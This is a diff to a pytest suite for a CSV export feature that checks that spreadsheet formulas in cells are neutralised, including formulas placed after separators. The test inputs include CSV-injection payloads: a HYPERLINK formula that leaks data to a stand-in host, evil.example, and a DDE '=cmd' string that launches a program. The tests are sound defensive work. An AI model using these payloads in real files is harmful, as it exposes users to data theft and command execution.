@@ -221,7 +221,7 @@ def test_csv_lists_every_item_with_its_status(doc: ExportDocument) -> None:
     content = csv_export.render(doc).content
     assert (
         content.split(b"\r\n")[0]
-        == b"\xef\xbb\xbfid,topic,priority,title,status,owner,note,references,why,how,decisions"
+        == b'\xef\xbb\xbf"id","topic","priority","title","status","owner","note","references","why","how","decisions"'
     )
     assert content.endswith(b"\r\n")
     rows = parse_csv(content)
@@ -234,17 +234,75 @@ def test_csv_lists_every_item_with_its_status(doc: ExportDocument) -> None:
     assert "https://" in rows[0]["references"]
 
 
-@pytest.mark.parametrize("formula", ['=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
-def test_csv_neutralises_formulas(formula: str) -> None:
+@pytest.mark.parametrize(
+    ("formula", "neutral"),
+    [
+        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t'=1"),  # the tab is a separator too: the piece after it is neutralised as well
+        ("\r=1", "'\r'=1"),
+    ],
+)
+def test_csv_neutralises_formulas(formula: str, neutral: str) -> None:
     rows = parse_csv(csv_export.render(make_doc(note=formula, owner=formula)).content)
-    assert rows[0]["note"] == "'" + formula
-    assert rows[0]["owner"] == "'" + formula
+    assert rows[0]["note"] == neutral
+    assert rows[0]["owner"] == neutral
 
 
 def test_csv_cells_never_start_a_formula(evil_doc: ExportDocument) -> None:
     for row in parse_csv(csv_export.render(evil_doc).content):
         for cell in row.values():
             assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+
+# a formula after a separator a spreadsheet may split the cell on (issue 10, item 15)
+SPLIT_FORMULAS = [
+    ('ok;=HYPERLINK("http://evil.example/?leak=1")', 'ok;\'=HYPERLINK("http://evil.example/?leak=1")'),
+    ("a,@SUM(1)", "a,'@SUM(1)"),
+    ("a\t+1+1", "a\t'+1+1"),
+    ("first line\n-2+3", "first line\n'-2+3"),
+    ("first line\r\n=1", "first line\r\n'=1"),
+    ("a; =cmd|' /C calc'!A0", "a;' =cmd|' /C calc'!A0"),  # spaces are trimmed on import by some spreadsheets
+    ('a;"=1+2', "a;'\"=1+2"),
+    ("=1;=2,=3", "'=1;'=2,'=3"),
+]
+
+
+def spreadsheet_pieces(content: bytes) -> list[str]:
+    """Every cell a spreadsheet could make of the file, splitting on any separator and ignoring quotes."""
+    text = content.decode("utf-8-sig")
+    return [piece for piece in re.split(r"[;,\t\r\n]", text) if piece]
+
+
+def live_formula(piece: str) -> bool:
+    return piece.lstrip(' "').startswith(("=", "+", "-", "@"))
+
+
+@pytest.mark.parametrize(("formula", "neutral"), SPLIT_FORMULAS)
+def test_csv_neutralises_formulas_after_a_separator(formula: str, neutral: str) -> None:
+    doc = make_doc(note=formula, owner=formula)
+    content = csv_export.render(doc).content
+    rows = parse_csv(content)
+    assert rows[0]["note"] == neutral
+    assert rows[0]["owner"] == neutral
+    assert not [p for p in spreadsheet_pieces(content) if live_formula(p)]
+
+
+def test_csv_quotes_every_cell(evil_doc: ExportDocument) -> None:
+    content = csv_export.render(make_doc(note="a;b", owner="plain")).content
+    rows = [list(csv_export.COLUMNS), *([row[c] for c in csv_export.COLUMNS] for row in parse_csv(content))]
+    out = io.StringIO()
+    csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerows(rows)
+    assert content == ("\ufeff" + out.getvalue()).encode("utf-8")
+
+
+def test_csv_from_hostile_text_has_no_live_formula_anywhere(evil_doc: ExportDocument) -> None:
+    hostile_doc = make_doc(evil=True, note="; ".join(f for f, _ in SPLIT_FORMULAS), owner="x,=1")
+    for doc in (evil_doc, hostile_doc):
+        content = csv_export.render(doc).content
+        assert not [p for p in spreadsheet_pieces(content) if live_formula(p)]
 
 
 # --- Markdown -----------------------------------------------------------------------------------
